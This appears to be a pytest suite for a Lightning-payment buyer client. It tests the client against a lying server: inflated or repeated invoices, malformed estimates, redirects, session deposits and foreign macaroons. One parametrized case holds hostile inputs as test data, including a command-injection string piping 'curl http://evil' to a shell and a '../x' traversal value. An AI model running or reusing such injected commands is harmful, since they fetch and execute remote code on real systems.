"""A server that lies gets no more than the buyer allowed, for what the buyer asked for."""

import asyncio
import io
from collections.abc import AsyncIterator, Awaitable
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from app.buyer.client import Client
from app.buyer.display import Display
from app.buyer.failures import Away, Strange
from app.buyer.payer import Exit, NotPaid, Payer, Stop
from app.buyer.purchase import Purchase
from app.buyer.session import Session, open_session
from app.buyer.spending import Spending
from app.buyer.wallets.hand import HandWallet
from payments.key_ring import KeyRing
from payments.session_macaroon import make
from tests.world.hostile_server import BREAKDOWN, JOB, OTHER, Liar, Purse, Says, lying

LIMIT_SATS = 100


@pytest.fixture
async def liar(tmp_path: Path) -> AsyncIterator[Liar]:
    """A server that lies."""
    async with lying(tmp_path) as made:
        yield made


@pytest.fixture
async def client(liar: Liar) -> AsyncIterator[Client]:
    """A buyer's client of it, that waits for nothing."""

    async def no_pause(_: float) -> None:
        await asyncio.sleep(0)

    async with Client(liar.url, pause=no_pause) as made:
        yield made


@pytest.fixture
def purse(liar: Liar) -> Purse:
    """A wallet that pays whatever it is given."""
    return Purse(liar.rail)


def purchase(client: Client, purse: Any, spending: Spending | None = None) -> Purchase:
    """Return a purchase of at most 100 sats."""
    return Purchase(client, Payer(purse, spending), max_sats=LIMIT_SATS)


async def stops(buying: Awaitable[Any], *codes: Exit) -> str:
    """Return the sentence that a purchase stops with."""
    with pytest.raises(Stop) as stopped:
        await buying
    assert stopped.value.code in (codes or (Exit.REFUSED, Exit.UNPAID))
    return stopped.value.sentence


# ------------------------------------------------------------------- the limit of a purchase


async def test_a_second_dearer_evaluation_is_not_paid(
    liar: Liar, client: Client, purse: Purse
) -> None:
    """Each thing is paid once, however often and for however much it is asked for again."""
    await liar.begins()
    dearer = [{"evalInvoice": await liar.invoice(20_000)} for _ in range(3)]
    liar.tells(*[liar.job("awaiting_eval_payment", **each) for each in dearer])
    assert "second time for the evaluation" in await stops(purchase(client, purse).buy("hello"))
    assert purse.paid_sats == [5]
    # Nor is one for little, or one invoice more for the work.
    await liar.begins()
    liar.tells(liar.job("awaiting_eval_payment", evalInvoice=await liar.invoice(1)))
    await stops(purchase(client, purse).buy("hello"))
    works = [await liar.invoice(10) for _ in range(2)]
    liar.tells(*[
        liar.job("awaiting_work_payment", workInvoice=each, pricingBreakdown=BREAKDOWN)
        for each in works
    ])  # fmt: skip
    await liar.begins()
    assert "second time for the work" in await stops(purchase(client, purse).buy("hello"))
    assert purse.paid_sats == [5, 5, 5, 10]


@pytest.mark.parametrize("name", ["evalInvoice", "workInvoice", "invoice"])
async def test_no_invoice_of_a_job_is_beyond_the_limit(
    liar: Liar, client: Client, purse: Purse, name: str
) -> None:
    """What was paid and what is asked for stay within it: also when a job is only watched."""
    state = "awaiting_work_payment" if name == "workInvoice" else "awaiting_eval_payment"
    asked = {
        name: await liar.invoice(30_000),
        "pricingBreakdown": {**BREAKDOWN, "totalSats": 30_000},
    }
    await liar.begins()
    liar.tells(liar.job(state, **asked))
    await stops(purchase(client, purse).buy("hello"))
    assert purse.paid_sats == [5]
    sentence = await stops(purchase(client, purse).go_on(JOB), Exit.REFUSED)
    assert "30,000 sats" in sentence and "limit of 100" in sentence
    shown: list[Any] = []
    await stops(purchase(client, HandWallet(shown.append)).go_on(JOB), Exit.REFUSED)
    assert purse.paid_sats == [5] and shown == []


async def test_the_sum_counts_and_not_each_invoice(
    liar: Liar, client: Client, purse: Purse
) -> None:
    """An evaluation and a work that each fit are not paid when both together do not."""
    await liar.begins(60)
    work = {
        "workInvoice": await liar.invoice(60),
        "pricingBreakdown": {**BREAKDOWN, "totalSats": 60},
    }
    liar.tells(liar.job("awaiting_work_payment", **work))
    assert "60 sats already paid" in await stops(purchase(client, purse).buy("hello"))
    assert purse.paid_sats == [60]


async def test_the_sum_counts_across_runs(
    liar: Liar, client: Client, purse: Purse, tmp_path: Path
) -> None:
    """A purchase that is gone on with has the limit that is left, and nothing is paid twice."""
    spending = Spending(tmp_path / "home" / "spending.json")
    await liar.begins(60)
    liar.tells(Says({"error": "gone"}, 500))
    with pytest.raises(Exception, match="gone"):
        await purchase(client, purse, spending).buy("hello")
    for more in ({"evalInvoice": await liar.invoice(30)}, {"invoice": await liar.invoice(30)}):
        liar.tells(liar.job("awaiting_eval_payment", **more))
        assert "second time" in await stops(purchase(client, purse, spending).go_on(JOB))
    work = {
        "workInvoice": await liar.invoice(41),
        "pricingBreakdown": {**BREAKDOWN, "totalSats": 41},
    }
    liar.tells(liar.job("awaiting_work_payment", **work))
    await stops(purchase(client, purse, spending).go_on(JOB), Exit.REFUSED)
    assert purse.paid_sats == [60]


async def test_one_hash_for_two_amounts_is_paid_once(
    liar: Liar, client: Client, purse: Purse, tmp_path: Path
) -> None:
    """An invoice is known by what it asks for too: a dearer one of the same hash is another one."""
    spending = Spending(tmp_path / "spending.json")
    cheap = await liar.invoice(5)
    await liar.begins()
    liar.on("POST /api/jobs", Says({"jobId": JOB, "evalInvoice": cheap}, 201))
    told = {**cheap, "amountSats": 50}
    liar.tells(liar.job("awaiting_eval_payment", evalInvoice=told), liar.job("failed"))
    job = await purchase(client, purse, spending).buy("hello")
    assert job["state"] == "failed" and purse.paid_sats == [5]


async def test_what_is_due_in_another_state_is_not_paid(
    liar: Liar, client: Client, purse: Purse
) -> None:
    """An evaluation is paid before it, and work before that: no invoice comes after."""
    invoice = await liar.invoice(5)
    liar.tells(
        liar.job("executing", evalInvoice=invoice),
        liar.job("executing", invoice=invoice),
        liar.job("complete", evalInvoice=invoice, result="x"),
    )
    assert (await purchase(client, purse).go_on(JOB))["state"] == "complete"
    assert purse.paid_sats == []


@pytest.mark.parametrize("told_sats", [1, True, "5", 5.0, -5, [5], {"sats": 5}, None, 10**40])
async def test_an_invoice_is_paid_for_what_was_shown(
    liar: Liar, client: Client, purse: Purse, told_sats: Any
) -> None:
    """A JSON that tells of less than its invoice asks for, or of no amount, is not paid."""
    await liar.begins()
    told = await liar.invoice(90, told_sats)
    told["amountSats"] = told_sats
    liar.on("POST /api/jobs", Says({"jobId": JOB, "evalInvoice": told}, 201))
    with pytest.raises((Stop, Strange)):
        await purchase(client, purse).buy("hello")
    assert purse.paid_sats == []


@pytest.mark.parametrize(
    "estimate",
    [
        {"workSats": float("nan")}, {"workSats": float("-inf")}, {"workSats": float("inf")},
        {"workSats": -9_000}, {"workSats": -1e9}, {"evalSats": True}, {"evalSats": "5"},
        {"totalSats": 15.0}, {"totalSats": [15]}, {"totalSats": None}, {"totalSats": 1},
        {"workSats": 10**400},
    ],
)  # fmt: skip
async def test_an_estimate_that_lies_buys_nothing(
    liar: Liar, client: Client, purse: Purse, estimate: dict[str, Any]
) -> None:
    """Its amounts are whole numbers, zero or more, and add up; else that is said in a sentence."""
    await liar.begins(9_000, **estimate)
    with pytest.raises(Strange, match="does not answer as a Boltwork does"):
        await purchase(client, purse).buy("hello")
    assert ("POST", "/api/jobs") not in liar.asked and purse.paid_sats == []


@pytest.mark.parametrize("told", [
    {"jobId": OTHER}, {"jobId": "../x"}, {"state": "x; curl http://evil | sh #"}, {"state": 5},
    {"result": 5}, {"refunds": {}}, {"refunds": [{"amountSats": -1, "refundState": "pending"}]},
    {"costLedger": {"totalTokens": True}}, {"evalInvoice": []}, {"evalInvoice": {"amountSats": 1}},
])  # fmt: skip
async def test_a_job_that_is_none_is_said(
    liar: Liar, client: Client, purse: Purse, told: dict[str, Any]
) -> None:
    """Fields of another kind, and another job than the one that was asked for, end the purchase."""
    liar.tells(Says({"jobId": JOB, "state": "complete"} | told))
    with pytest.raises(Strange):
        await purchase(client, purse).go_on(JOB)


async def test_an_offer_is_within_the_limit(liar: Liar, client: Client, purse: Purse) -> None:
    """An ask by the call is paid up to the limit, for what its own invoice says."""
    await liar.begins()
    for told_sats in (30_000, 15):
        invoice = (await liar.invoice(30_000))["paymentRequest"]
        offer = f'WWW-Authenticate: L402 macaroon="AG", invoice="{invoice}"\r\n'
        body = {"error": "pay", "amountSats": told_sats, "instance": f"/api/jobs/{JOB}"}
        liar.on("POST /api/ask", Says(body, 402, offer))
        await stops(purchase(client, purse).buy_by_call("hello"))
    assert purse.paid_sats == []
    # Nor is anything more asked for by the job that it has bought.
    invoice = (await liar.invoice(15))["paymentRequest"]
    offer = f'WWW-Authenticate: L402 macaroon="AG", invoice="{invoice}"\r\n'
    liar.on("POST /api/ask", Says({**body, "amountSats": 15}, 402, offer), Says({}, 404))
    liar.tells(liar.job("awaiting_eval_payment", evalInvoice=await liar.invoice(15)))
    assert "second time" in await stops(purchase(client, purse).buy_by_call("hello"))
    assert purse.paid_sats == [15]


async def test_a_refund_never_costs(liar: Liar, client: Client, purse: Purse) -> None:
    """What claims to be owed back is received or left: no code to pay by is shown for it."""
    code = (await liar.invoice(50))["paymentRequest"]
    owed = {"amountSats": 5, "refundState": "pending", "lnurlWithdraw": code}
    liar.tells(liar.job("complete", result="x", refunds=[owed], evalInvoice=await liar.invoice(5)))
    shown = io.StringIO()
    buyer = Purchase(client, Payer(purse), Display(Console(file=shown)), max_sats=LIMIT_SATS)
    await buyer.go_on(JOB)
    assert purse.paid_sats == [] and "5 sats are owed back" in shown.getvalue()
    assert code not in shown.getvalue().lower()


async def test_a_wallet_of_another_network_is_not_asked(
    liar: Liar, client: Client, purse: Purse
) -> None:
    """The first invoice, or the wallet itself, says on which network is paid."""
    await liar.begins()
    purse.network = "bc"
    assert "another network" in await stops(purchase(client, purse).buy("hello"), Exit.UNPAID)
    assert purse.paid_sats == []


async def test_nothing_leads_elsewhere(liar: Liar, client: Client, purse: Purse) -> None:
    """A redirect is not followed, neither of a payment nor of anything else."""
    await liar.begins()
    elsewhere = "Location: http://127.0.0.1:9/\r\n"
    for route in ("POST /api/estimate", "POST /api/jobs"):
        liar.on(route, Says({"error": 5}, 307, elsewhere))
        with pytest.raises(Strange, match="307"):
            await purchase(client, purse).buy("hello")
        await liar.begins()


# ----------------------------------------------------------------------------------- sessions


@pytest.fixture
def macaroon() -> str:
    """A session's macaroon, as somebody could make one."""
    ring = KeyRing()
    ring.hold({1: b"k" * 32}, 1, frozenset({1}))
    return make(ring, OTHER, "00" * 16)


@pytest.mark.parametrize(
    ("sats", "told_sats"), [(50_000, 50_000), (50_000, 500), (501, 501), (5, 5)]
)
async def test_a_deposit_is_what_was_asked_for(
    liar: Liar, client: Client, purse: Purse, sats: int, told_sats: int
) -> None:
    """A session of 500 sats is opened with 500 sats, or not at all."""
    made: dict[str, Any] = {"sessionId": OTHER, "state": "awaiting_payment"}
    made["invoice"] = await liar.invoice(sats, told_sats)
    liar.on("POST /api/sessions", Says(made, 201))
    with pytest.raises(NotPaid, match=OTHER):
        await open_session(client, 500, purse)
    assert purse.paid_sats == []


async def test_a_top_up_is_what_was_asked_for(
    liar: Liar, client: Client, purse: Purse, macaroon: str
) -> None:
    """It goes through the same place as every payment: for exactly that, and once."""
    session, path = Session(client, macaroon), f"POST /api/sessions/{OTHER}/topup"
    for sats, told_sats in ((40_000, 40_000), (40_000, 100), (101, 101), (1, 1)):
        liar.on(path, Says({"topup": await liar.invoice(sats, told_sats)}))
        await stops(session.top_up(100, purse), Exit.UNPAID)
    assert purse.paid_sats == []


async def test_sessions_share_the_budget_of_the_day(
    liar: Liar, client: Client, purse: Purse, tmp_path: Path, macaroon: str
) -> None:
    """A deposit and a top-up are written down before they are paid, as all else is."""
    payer = Payer(purse, Spending(tmp_path / "spending.json", 550))
    made = {"sessionId": OTHER, "state": "awaiting_payment", "invoice": await liar.invoice(500)}
    liar.on("POST /api/sessions", Says(made, 201))
    status = {"sessionId": OTHER, "state": "active", "balanceSats": 500}
    liar.on(f"GET /api/sessions/{OTHER}", Says({**status, "macaroon": macaroon}))
    session = await open_session(client, 500, payer)
    assert session.id == OTHER and purse.paid_sats == [500]
    liar.on(f"POST /api/sessions/{OTHER}/topup", Says({"topup": await liar.invoice(100)}))
    assert "budget of 550" in await stops(session.top_up(100, payer), Exit.REFUSED)
    assert purse.paid_sats == [500] and payer.spending.spent_sats() == 500


async def test_the_macaroon_of_another_session_is_not_taken(
    liar: Liar, client: Client, purse: Purse, macaroon: str
) -> None:
    """What was paid for is what is used."""
    made = {"sessionId": JOB, "state": "awaiting_payment", "invoice": await liar.invoice(500)}
    liar.on("POST /api/sessions", Says(made, 201))
    for shown in (macaroon, "junk"):
        told = {"sessionId": JOB, "state": "active", "macaroon": shown}
        liar.on(f"GET /api/sessions/{JOB}", Says(told))
        with pytest.raises(Away, match="macaroon"):
            await open_session(client, 500, purse)
        made["invoice"] = await liar.invoice(500)
